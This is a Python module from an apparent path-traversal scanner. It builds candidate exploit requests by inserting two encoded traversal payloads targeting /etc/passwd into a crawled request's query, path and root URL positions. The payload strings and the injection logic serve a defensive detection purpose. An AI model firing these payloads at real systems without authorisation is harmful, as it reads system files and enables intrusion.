"""
Traversal Detector - Payload Generator

Builds candidate requests by substituting traversal payloads into a crawled
request at every configured injection point.
"""
from typing import Iterable, List, Optional
from urllib.parse import urlsplit, urlunsplit

from traversal_detector.core.http_client import HttpRequest
from traversal_detector.core.network_service_utils import build_web_application_root_url
from traversal_detector.core.vuln_engine.injection_context import InjectionPoint, PriorityOrder
from traversal_detector.core.vuln_engine.potential_exploit import PotentialExploit
from traversal_detector.schemas.network import NetworkService

# Both target /etc/passwd. Already percent-encoded, never re-encode.
PAYLOADS = frozenset({
    "..%2F" * 29 + ".." + "%2Fetc%2Fpasswd",
    "%2Fetc%2Fpasswd",
})


def _replace_first_query_value(query: str, payload: str) -> str:
    if not query:
        return payload
    pairs = query.split("&")
    name = pairs[0].split("=", 1)[0]
    pairs[0] = f"{name}={payload}"
    return "&".join(pairs)


def _replace_last_path_segment(path: str, payload: str) -> str:
    # Empty entries are kept so repeated and trailing slashes survive.
    segments = path.split("/")
    for index in range(len(segments) - 1, -1, -1):
        if segments[index]:
            segments[index] = payload
            return "/".join(segments)
    return "/" + payload


def _append_path_segment(path: str, payload: str) -> str:
    if path.endswith("/"):
        path = path[:-1]
    return path + "/" + payload


class ExploitGenerator:
    """
    Generates PotentialExploits for one crawled request of one service.

    Every (payload, injection point) pair yields exactly one candidate and
    the template request is never modified.
    """

    def __init__(
        self,
        request: HttpRequest,
        network_service: NetworkService,
        injection_points: Iterable[InjectionPoint],
        priority_order: Optional[PriorityOrder] = None,
    ):
        self.request = request
        self.network_service = network_service
        self.injection_points = tuple(injection_points)
        self.priority_order = priority_order or PriorityOrder(self.injection_points)

    def inject_payload(self, payload: str) -> List[PotentialExploit]:
        """Return one candidate per configured injection point."""
        return [
            PotentialExploit(
                request=HttpRequest(
                    method=self.request.method,
                    url=self.build_url(point, payload),
                    headers=self.request.headers,
                ),
                network_service=self.network_service,
                priority=self.priority_order.rank(point),
                injection_point=point,
                payload=payload,
            )
            for point in self.injection_points
        ]

    def inject_payloads(self, payloads: Iterable[str] = PAYLOADS) -> List[PotentialExploit]:
        exploits: List[PotentialExploit] = []
        for payload in sorted(payloads):
            exploits.extend(self.inject_payload(payload))
        return exploits

    def build_url(self, point: InjectionPoint, payload: str) -> str:
        """URL of the template request with ``payload`` placed at ``point``."""
        if point is InjectionPoint.ROOT:
            return build_web_application_root_url(self.network_service) + payload

        parts = urlsplit(self.request.url)
        if point is InjectionPoint.QUERY_PARAMETER:
            parts = parts._replace(query=_replace_first_query_value(parts.query, payload))
        elif point is InjectionPoint.PATH_SEGMENT:
            parts = parts._replace(path=_replace_last_path_segment(parts.path, payload))
        elif point is InjectionPoint.PATH_SUFFIX:
            parts = parts._replace(path=_append_path_segment(parts.path, payload))
        else:
            raise ValueError(f"Unsupported injection point: {point}")
        return urlunsplit(parts._replace(fragment=""))
